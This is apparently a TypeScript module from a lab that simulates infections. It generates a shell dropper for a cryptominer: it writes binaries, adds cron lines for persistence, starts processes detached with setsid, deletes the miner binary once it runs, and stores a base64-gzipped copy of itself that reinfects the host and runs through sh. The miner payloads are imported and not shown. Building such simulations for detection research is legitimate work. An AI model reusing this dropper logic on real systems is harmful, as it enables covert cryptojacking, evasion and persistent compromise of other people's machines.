import { posix } from 'node:path';
import { gzipSync } from 'node:zlib';
import { quote } from '../shell.ts';
import type { Habits, Infection } from './infection.ts';
import { loaderUrl } from './infection.ts';
import {
  guardPayload,
  guardProgram,
  loaderText,
  minerCommand,
  minerPayload,
  minerProgram,
} from './programs.ts';

/**
 * The whole infection as one POSIX sh script: images, cron lines, processes. The same text is run by the lab and
 * served by its loader, so that an infection that comes back has the same hashes.
 */
export function dropperScript(infection: Infection): string {
  const { miner, guard, loader, cron, reinfect } = infection;
  const paths = [miner?.path, guard?.path, loader?.path, reinfect?.path, ...cron.spools].filter(
    (path) => path !== undefined,
  );
  const folders = [...new Set(paths.map((path) => posix.dirname(path)))];
  return [
    'umask 022; cd /; last=1',
    `mkdir -p ${folders.map(quote).join(' ')}`,
    ...(miner === null ? [] : [image(miner.path, minerPayload)]),
    ...(guard === null ? [] : [image(guard.path, guardPayload)]),
    ...cron.spools.flatMap((spool) => cron.lines.map((line) => cronLine(spool, line))),
    ...(guard === null
      ? []
      : [started(guard.path, quote(guard.path), guardProgram(infection, guard), 'GUARD')]),
    ...(miner !== null && guard === null
      ? [started(miner.path, minerCommand(miner), minerProgram(miner), 'MINER')]
      : []),
    ...(miner?.deleted === true && guard === null ? [removedOnceRunning(miner.path)] : []),
    ...(loader === null ? [] : [loaderFile(loader.path, loaderText(infection, loaderUrl), infection.habits)]),
    ...(reinfect === null ? [] : [waiting(infection, reinfect)]),
    ':',
    '',
  ].join('\n');
}

/** A new inode, never written over one that runs. */
function image(path: string, payload: string): string {
  const target = quote(path);
  return `if [ ! -x ${target} ]; then
cat /bin/bash - >${target}.new <<'PAYLOAD'
${payload}PAYLOAD
chmod 755 ${target}.new; mv -f ${target}.new ${target}
fi`;
}

function cronLine(spool: string, line: string): string {
  const [file, text] = [quote(spool), quote(line)];
  return `[ -e ${file} ] || (umask 077; : >${file}); grep -qxF ${text} ${file} || { printf '%s\\n' ${text} >>${file}; touch ${quote(posix.dirname(spool))}; }`;
}

/** Once only, also when the script comes again every five minutes. `$last` is what was started last. */
function started(path: string, words: string, program: string, delimiter: string): string {
  return `ls -l /proc/[0-9]*/exe 2>/dev/null | grep -qF -- ${quote(`-> ${path}`)} || {
(exec setsid ${words} >/dev/null 2>&1 <<'${delimiter}'
${program}${delimiter}
) & last=$!; }`;
}

function removedOnceRunning(path: string): string {
  return `[ $last = 1 ] || until [ /proc/$last/exe -ef ${quote(path)} ] || ! kill -0 $last; do sleep 0.02; done; rm -f ${quote(path)}`;
}

function loaderFile(path: string, text: string, habits: Habits): string {
  const target = quote(path);
  return `[ -e ${target} ] || cat >${target} <<'LOADER'
${text}LOADER
printf '%s' ${target} | grep -qsF -f - /proc/[0-9]*/cmdline || { (exec setsid ${habits === 'real' ? 'nohup ' : ''}sh ${target} >/dev/null 2>&1 </dev/null) & }`;
}

/** Waits for the end of what was started last (guard, else miner), and carries the dropper so that no name shows. */
function waiting(infection: Infection, reinfect: { path: string; afterSeconds: number }): string {
  const again = gzipSync(dropperScript({ ...infection, reinfect: null })).toString('base64');
  const target = quote(reinfect.path);
  return `cat >${target} <<'AGAIN'
while kill -0 "$1" 2>/dev/null; do sleep 0.2; done
sleep ${reinfect.afterSeconds}
base64 -d <<'X' | gzip -d | sh
${again}
X
AGAIN
(exec setsid sh ${target} $last >/dev/null 2>&1 </dev/null) &`;
}
